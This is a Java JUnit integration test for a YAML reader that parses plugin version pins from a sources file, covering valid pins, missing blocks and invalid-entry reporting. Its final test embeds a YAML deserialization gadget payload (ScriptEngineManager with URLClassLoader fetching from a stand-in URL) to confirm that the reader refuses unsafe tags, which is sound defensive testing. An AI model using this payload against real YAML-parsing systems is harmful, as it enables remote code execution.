package dev.omcp.adapters.storage.plugins;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.omcp.ports.plugins.PluginPin;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** spec 5.8: the plugins: block of the sources file. */
class PluginPinsReaderIT {
    @TempDir
    Path tmp;

    @Test
    void pinsAreReadAndTheRestOfTheFileIgnored() throws IOException {
        Path file = Files.writeString(tmp.resolve("sources.yaml"), """
                sources:
                  - name: prom
                    type: prometheus
                    url: http://prometheus:9090
                plugins:
                  - name: tempo
                    version: 1.2.0
                  - {name: zipkin, version: "0.3.1"}
                """);
        assertThat(PluginPinsReader.read(file)).containsExactly(new PluginPin("tempo", "1.2.0"), new PluginPin("zipkin", "0.3.1"));
    }

    @Test
    void noFileOrNoBlock_meansNoPins() throws IOException {
        assertThat(PluginPinsReader.read(tmp.resolve("missing.yaml"))).isEmpty();
        assertThat(PluginPinsReader.read(Files.writeString(tmp.resolve("s.yaml"), "sources: []\n"))).isEmpty();
    }

    @Test
    void everyInvalidEntryIsReportedAtOnce() throws IOException {
        Path file = Files.writeString(tmp.resolve("sources.yaml"), """
                plugins:
                  - name: tempo
                    version: latest
                  - name: Bad Name
                    version: 1.0.0
                  - just-a-string
                  - name: tempo
                    version: 1.0.0
                """);
        assertThatThrownBy(() -> PluginPinsReader.read(file))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("plugins[0]: plugin pin 'tempo' has version 'latest'")
                .hasMessageContaining("plugins[1]: plugin pin name 'Bad Name'")
                .hasMessageContaining("plugins[2] must be {name: <connector>, version: <exact version>}");
    }

    @Test
    void unsafeYamlTagsAreRefused() throws IOException {
        Path file = Files.writeString(tmp.resolve("sources.yaml"), "plugins: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n");
        assertThatThrownBy(() -> PluginPinsReader.read(file)).hasMessageContaining("not valid YAML");
    }
}
